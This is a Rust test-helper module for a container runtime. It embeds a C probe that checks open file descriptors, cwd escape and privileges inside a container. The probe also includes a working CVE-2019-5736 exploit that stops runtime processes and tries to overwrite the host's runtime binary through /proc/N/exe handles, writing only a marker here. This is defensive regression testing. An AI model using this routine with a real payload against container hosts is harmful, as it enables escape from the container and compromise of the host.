//! The static probe and attacker: one C program (fds, cwd, ids, attack),
//! compiled with `gcc -static` at test time and copied into a rootfs.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;

use runtime_tests::{path_str as s, Bundle, TestEnv};

pub const PROBE_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* fds: every open fd but the one listing them, with its target. */
static int fds(void) {
    DIR *d = opendir("/proc/self/fd");
    if (!d) { perror("opendir /proc/self/fd"); return 1; }
    int me = dirfd(d);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (e->d_name[0] == '.') continue;
        int fd = atoi(e->d_name);
        if (fd == me) continue;
        char p[64], t[4096];
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(p, t, sizeof t - 1);
        t[n < 0 ? 0 : n] = 0;
        printf("fd %d %s\n", fd, t);
    }
    return 0;
}

/* cwd: walks ".." from the cwd to the top and compares it with "/": a cwd
   outside the root never reaches the container's root. */
static int cwd(void) {
    char buf[4096];
    char *c = getcwd(buf, sizeof buf);
    printf("getcwd %s\n", c ? c : strerror(errno));
    struct stat root, cur, up;
    if (stat("/", &root)) { perror("stat /"); return 1; }
    int d = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (d < 0) { perror("open ."); return 1; }
    for (int i = 0; i < 4096; i++) {
        int u = openat(d, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (u < 0) { perror("open .."); return 1; }
        fstat(d, &cur);
        fstat(u, &up);
        close(d);
        d = u;
        if (cur.st_dev == up.st_dev && cur.st_ino == up.st_ino) break;
    }
    fstat(d, &cur);
    printf("%s\n", cur.st_dev == root.st_dev && cur.st_ino == root.st_ino ? "cwd-inside" : "cwd-OUTSIDE");
    return 0;
}

/* ids [wait]: resuid, NoNewPrivs and capability lines; "wait" then blocks
   so the host can look at the process. */
static int ids(int wait) {
    uid_t r, e, s;
    getresuid(&r, &e, &s);
    printf("uids %u %u %u\n", r, e, s);
    FILE *f = fopen("/proc/self/status", "re");
    char line[256];
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "NoNewPrivs", 10) || !strncmp(line, "Cap", 3)) {
            char *tab = strchr(line, '\t');
            if (tab) *tab = ' ';
            fputs(line, stdout);
        }
    printf("ready\n");
    fflush(stdout);
    while (wait) pause();
    return 0;
}

/* attack SECONDS LOG: CVE-2019-5736. Looks for processes in the container
   whose exe is neither itself nor busybox (that is: hpcc), stops each one,
   takes an O_PATH handle on its exe, resumes it, and keeps trying to
   reopen every handle for writing; once the binary is no longer busy
   (ETXTBSY) it writes a marker into it. Also tries /proc/N/exe directly. */
static int attack(int seconds, const char *log) {
    struct stat self, bb, st;
    stat("/proc/self/exe", &self);
    stat("/bin/busybox", &bb);
    int held[512];
    int nheld = 0;
    long seen = 0, stopped = 0, opened = 0, denied = 0, written = 0;
    pid_t me = getpid();
    time_t end = time(0) + seconds;
    char p[64], q[64];
    while (time(0) < end && access("/out/stop-attack", F_OK) != 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == me) continue;
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            if (stat(p, &st) == 0 &&
                ((st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
                 (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)))
                continue;
            seen++;
            if (kill(pid, SIGSTOP) == 0) stopped++;
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) {
                denied++;
            } else if (nheld < 512) {
                held[nheld++] = fd;
                opened++;
            } else {
                close(fd);
            }
            int w = open(p, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                if (pwrite(w, "HPCC-PWNED", 10, 0) == 10) written++;
                close(w);
            }
            kill(pid, SIGCONT);
        }
        if (d) closedir(d);
        for (int i = 0; i < nheld; i++) {
            snprintf(q, sizeof q, "/proc/self/fd/%d", held[i]);
            int w = open(q, O_WRONLY | O_CLOEXEC);
            if (w >= 0) {
                if (pwrite(w, "HPCC-PWNED", 10, 0) == 10) written++;
                close(w);
            }
        }
    }
    FILE *f = fopen(log, "we");
    if (f) {
        fprintf(f, "seen %ld stopped %ld opened %ld denied %ld written %ld\n",
                seen, stopped, opened, denied, written);
        fclose(f);
    }
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 2 && !strcmp(argv[1], "fds")) return fds();
    if (argc >= 2 && !strcmp(argv[1], "cwd")) return cwd();
    if (argc >= 2 && !strcmp(argv[1], "ids")) return ids(argc >= 3 && !strcmp(argv[2], "wait"));
    if (argc >= 4 && !strcmp(argv[1], "attack")) return attack(atoi(argv[2]), argv[3]);
    fprintf(stderr, "usage: probe fds|cwd|ids [wait]|attack SECONDS LOG\n");
    return 2;
}
"#;

/// Compiles the probe (static, so it runs in the busybox rootfs).
pub fn build_probe(env: &TestEnv) -> PathBuf {
    let src = env.path("probe.c");
    let bin = env.path("probe");
    fs::write(&src, PROBE_C).expect("writing probe.c");
    let out = Command::new("gcc")
        .args(["-static", "-O1", "-o", s(&bin), s(&src)])
        .output()
        .unwrap_or_else(|e| {
            panic!("this test needs gcc with a static libc (apt-get install gcc libc6-dev): {e}")
        });
    assert!(
        out.status.success(),
        "gcc -static probe.c failed (needs libc6-dev's libc.a): {}",
        String::from_utf8_lossy(&out.stderr)
    );
    bin
}

/// Copies the probe into the bundle's rootfs as `/probe` (mode `mode`).
pub fn install_probe(probe: &Path, bundle: &Bundle, name: &str, mode: u32) -> PathBuf {
    let dest = bundle.rootfs().join(name);
    fs::copy(probe, &dest).expect("copying the probe into the rootfs");
    fs::set_permissions(&dest, fs::Permissions::from_mode(mode)).expect("chmod probe");
    dest
}

/// The fd numbers a `probe fds` printed.
pub fn fd_numbers(stdout: &str) -> Vec<u32> {
    stdout
        .lines()
        .filter_map(|l| l.strip_prefix("fd "))
        .filter_map(|l| l.split_whitespace().next()?.parse().ok())
        .collect()
}
